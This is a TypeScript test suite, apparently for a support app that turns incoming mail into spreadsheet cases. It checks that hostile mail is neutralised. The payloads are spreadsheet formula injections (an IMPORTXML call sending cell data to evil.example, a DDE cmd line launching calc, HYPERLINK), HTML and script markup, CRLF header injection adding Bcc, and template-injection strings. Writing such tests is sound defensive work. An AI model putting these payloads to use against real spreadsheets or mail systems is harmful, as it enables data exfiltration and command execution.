/** Text that wants to be more than text, in every place that a mail can put it, followed to everywhere it comes out again. */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import type { Spreadsheet } from '../../workbench/services/sheets/spreadsheet';
import { writeXlsx } from '../../workbench/xlsx';
import type { Letter } from './letter';
import { ANA, clearStages, COMPANY, ROUTING, Stage } from './stage';

const SUPPORT = 'support@solarmora.example';

/** What a spreadsheet takes for a formula, or an old Excel for a command. */
const FORMULAS = [
  '=IMPORTXML("https://evil.example/?"&A2,"//x")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  "'=1+1",
  '=HYPERLINK("https://evil.example","Invoice")',
];
const MARKUP = '</b><a href="https://evil.example/">Sign in</a><script>alert(1)</script>';
const HEADERS = 'Hello\r\nBcc: everyone@evil.example\r\n\r\nBody of the attacker';
const TEMPLATE = '{{case.id}} {{constructor}} {{contact.name|x}} ${1+1}';

const word = (text: string): string => `=?UTF-8?B?${Buffer.from(text).toString('base64')}?=`;

const letterWith = (text: string, n: number): Letter => ({
  id: `hostile@evil-${n}.example`,
  from: `${word(text)} <eve@evil-${n}.example>`,
  to: SUPPORT,
  cc: `${word(text)} <copy@evil-${n}.example>`,
  subject: word(text),
  text: `${text}\r\n${text}`,
  answers: [`${n}${text.replace(/[^a-z=+@-]/gi, '')}@evil.example`],
  files: [{ name: word(text), type: 'text/csv', content: text }],
});

const TEXTS = [...FORMULAS, MARKUP, HEADERS, TEMPLATE, 'Read https://evil.example/now or www.evil.example'];

let stage: Stage;
let formulasBefore: number;
let folder: string;

const formulasOf = (book: Spreadsheet): readonly string[] =>
  book.tabs.flatMap(tab => {
    const found: string[] = [];
    for (let row = 0; row < tab.lastRow(); row++)
      for (let column = 0; column < tab.lastColumn(); column++) {
        const formula = tab.extra(row, column)?.formula;
        if (formula !== undefined) found.push(formula);
      }
    return found;
  });

beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'casebook-injection-'));
  stage = Stage.installed({
    ...COMPANY,
    settings: { 'Organisation name': 'Solar\r\nBcc: all@solar.example' },
  });
  formulasBefore = formulasOf(stage.book).length;
  stage.deliver(...TEXTS.map(letterWith));
  stage.poll();
});
afterAll(() => {
  clearStages();
  rmSync(folder, { recursive: true, force: true });
});

it('every hostile mail becomes a case, and no cell of the book a formula', () => {
  expect(stage.rows('Cases')).toHaveLength(TEXTS.length);
  expect(formulasOf(stage.book)).toHaveLength(formulasBefore);
  const subjects = stage.rows('Cases').map(({ subject }) => subject);
  for (const formula of FORMULAS) expect(subjects).toContain(formula.trim());
});

it('in the .xlsx each of these texts is a text', async () => {
  const file = join(folder, 'book.xlsx');
  await writeXlsx(stage.book, file);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(file);
  const seen: string[] = [];
  for (const sheet of workbook.worksheets)
    sheet.eachRow(row =>
      row.eachCell(({ value }) => {
        if (typeof value === 'object' && value !== null && 'formula' in value)
          expect(String(value.formula)).not.toMatch(/IMPORTXML|HYPERLINK|cmd|evil/i);
        if (typeof value === 'string') seen.push(value);
      }),
    );
  for (const formula of FORMULAS) expect(seen).toContain(formula.trim());
});

it('no answer goes to anybody else, has another header, a link of theirs or an open field', () => {
  const box = stage.mail.mailbox(ROUTING);
  const sent = box.list('SENT').map(({ id }) => box.raw(id));
  expect(sent.length).toBe(TEXTS.length);
  for (const raw of sent) {
    const text = Buffer.from(raw ?? new Uint8Array()).toString('utf8');
    const end = text.indexOf('\r\n\r\n');
    const names = text
      .slice(0, end)
      .split('\r\n')
      .filter(line => !/^[ \t]/.test(line))
      .map(line => line.slice(0, line.indexOf(':')).toLowerCase());
    expect(names).not.toContain('bcc');
    expect(names.filter(name => name === 'to')).toHaveLength(1);
    const body = Buffer.from(text.slice(end + 4), 'base64').toString('utf8');
    expect(body).not.toMatch(/evil\.example|\{\{|\}\}|everyone@/);
  }
  expect([...stage.sent()].map(line => line.split(' | ')[0]).sort()).toEqual(
    TEXTS.map((_, n) => `<eve@evil-${n}.example>`).sort(),
  );
});

it('a card shows markup as text and opens nothing of theirs', () => {
  for (const [n, text] of TEXTS.entries()) {
    const card = stage.panel(ANA, stage.deliverTo(ANA, { ...letterWith(text, n), to: ANA })).open();
    const shown = JSON.stringify(card.text);
    expect(shown).not.toMatch(/<a |<script/);
  }
});

it('a list of 3,000 addresses costs no more rows than the limits allow', () => {
  const many = Array.from({ length: 3_000 }, (_, n) => `p${n}@crowd.example`).join(', ');
  const before = stage.rows('Contacts').length;
  stage.deliver({ id: 'crowd@evil.example', from: 'Eve <eve@crowd.example>', to: SUPPORT, cc: many });
  stage.deliver({
    id: 'crowd@solarmora.example',
    from: `Ana Mora <${ANA}>`,
    to: many,
    via: 'log@solarmora.example',
  });
  expect(stage.poll().processed.map(({ outcome }) => outcome)).toEqual(['case_new', 'logged']);
  expect(stage.rows('Contacts').length - before).toBeLessThanOrEqual(21);
  const people = stage.rows('Cases').at(-1)?.['people'];
  expect(String(people).split(',').length).toBeLessThanOrEqual(50);
  expect(String(stage.rows('Messages').at(-1)?.['cc']).length).toBeLessThan(50_000);
});
